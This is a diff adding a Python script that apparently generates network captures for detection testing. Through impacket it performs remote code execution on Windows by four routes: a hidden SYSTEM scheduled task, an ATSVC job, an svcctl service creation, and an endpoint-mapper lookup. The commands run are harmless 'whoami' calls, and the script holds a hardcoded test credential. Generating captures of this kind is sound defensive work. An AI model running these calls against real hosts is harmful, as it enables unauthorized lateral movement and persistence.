@@ -1,0 +1,109 @@
+#!/usr/bin/env python3
+"""Client side: impacket's own library calls for the captures that have no
+ready-made impacket example script. Every byte the client sends is built by
+impacket; this file only chooses the calls, as an attacker's script would.
+
+  tsch-tcp HOST PORT LEVEL   ITaskSchedulerService over ncacn_ip_tcp:
+                             bind, SchRpcRegisterTask (cmd.exe /c whoami), SchRpcRun
+  netrjobadd HOST            ATSVC NetrJobAdd over \\PIPE\\atsvc (SMB)
+  epm HOST                   endpoint mapper ept_map for ITaskSchedulerService on 135
+  smb1-svcctl HOST           svcctl OpenSCManagerW + RCreateServiceW over SMB1
+"""
+import logging
+import sys
+
+from impacket.dcerpc.v5 import atsvc, epm, scmr, transport, tsch
+from impacket.dcerpc.v5.dtypes import NULL
+from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_NONE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException
+from impacket.smb import SMB_DIALECT
+from impacket.smbconnection import SMBConnection
+
+USER, PASSWORD, DOMAIN = "hwadmin", "Hardw1re!", ""
+
+TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <Triggers>
+    <TimeTrigger>
+      <StartBoundary>2026-01-01T00:00:00</StartBoundary>
+      <Enabled>true</Enabled>
+    </TimeTrigger>
+  </Triggers>
+  <Principals>
+    <Principal id="LocalSystem">
+      <UserId>S-1-5-18</UserId>
+      <RunLevel>HighestAvailable</RunLevel>
+    </Principal>
+  </Principals>
+  <Settings>
+    <AllowStartOnDemand>true</AllowStartOnDemand>
+    <Enabled>true</Enabled>
+    <Hidden>true</Hidden>
+  </Settings>
+  <Actions Context="LocalSystem">
+    <Exec>
+      <Command>cmd.exe</Command>
+      <Arguments>/c whoami</Arguments>
+    </Exec>
+  </Actions>
+</Task>
+"""
+
+
+def tsch_tcp(host, port, level):
+    rpctransport = transport.DCERPCTransportFactory(r"ncacn_ip_tcp:%s[%s]" % (host, port))
+    rpctransport.set_credentials(USER, PASSWORD, DOMAIN)
+    dce = rpctransport.get_dce_rpc()
+    dce.connect()
+    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY if level == "privacy" else RPC_C_AUTHN_LEVEL_NONE)
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    tsch.hSchRpcRegisterTask(dce, "\\HardwireTest", TASK_XML, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
+    tsch.hSchRpcRun(dce, "\\HardwireTest")
+    dce.disconnect()
+
+
+def netrjobadd(host):
+    rpctransport = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\atsvc]" % host)
+    rpctransport.set_credentials(USER, PASSWORD, DOMAIN)
+    dce = rpctransport.get_dce_rpc()
+    dce.connect()
+    dce.bind(atsvc.MSRPC_UUID_ATSVC)
+    at_info = atsvc.AT_INFO()
+    at_info["JobTime"] = 12 * 3600 * 1000  # noon, in ms after midnight
+    at_info["DaysOfMonth"] = 0
+    at_info["DaysOfWeek"] = 0
+    at_info["Flags"] = 0
+    at_info["Command"] = "cmd.exe /c whoami > C:\\Windows\\Temp\\hw.txt\x00"
+    resp = atsvc.hNetrJobAdd(dce, NULL, at_info)
+    logging.info("NetrJobAdd JobId %d", resp["pJobId"])
+    dce.disconnect()
+
+
+def epm_lookup(host):
+    binding = epm.hept_map(host, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
+    logging.info("ept_map -> %s", binding)
+
+
+def smb1_svcctl(host):
+    smb = SMBConnection(host, host, preferredDialect=SMB_DIALECT)
+    smb.login(USER, PASSWORD, DOMAIN)
+    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
+    dce = rpctransport.get_dce_rpc()
+    dce.connect()
+    dce.bind(scmr.MSRPC_UUID_SCMR)
+    handle = scmr.hROpenSCManagerW(dce)["lpScHandle"]
+    try:
+        scmr.hRCreateServiceW(dce, handle, "HwSvc1\x00", "HwSvc1\x00",
+                              lpBinaryPathName="%COMSPEC% /c whoami\x00")
+    except DCERPCException as error:  # Samba does not implement it: the request is what matters
+        logging.info("RCreateServiceW: %s", error)
+    dce.disconnect()
+
+
+def main():
+    logging.basicConfig(level=logging.INFO, format="client: %(message)s")
+    what, args = sys.argv[1], sys.argv[2:]
+    {"tsch-tcp": tsch_tcp, "netrjobadd": netrjobadd, "epm": epm_lookup, "smb1-svcctl": smb1_svcctl}[what](*args)
+
+
+if __name__ == "__main__":
+    main()
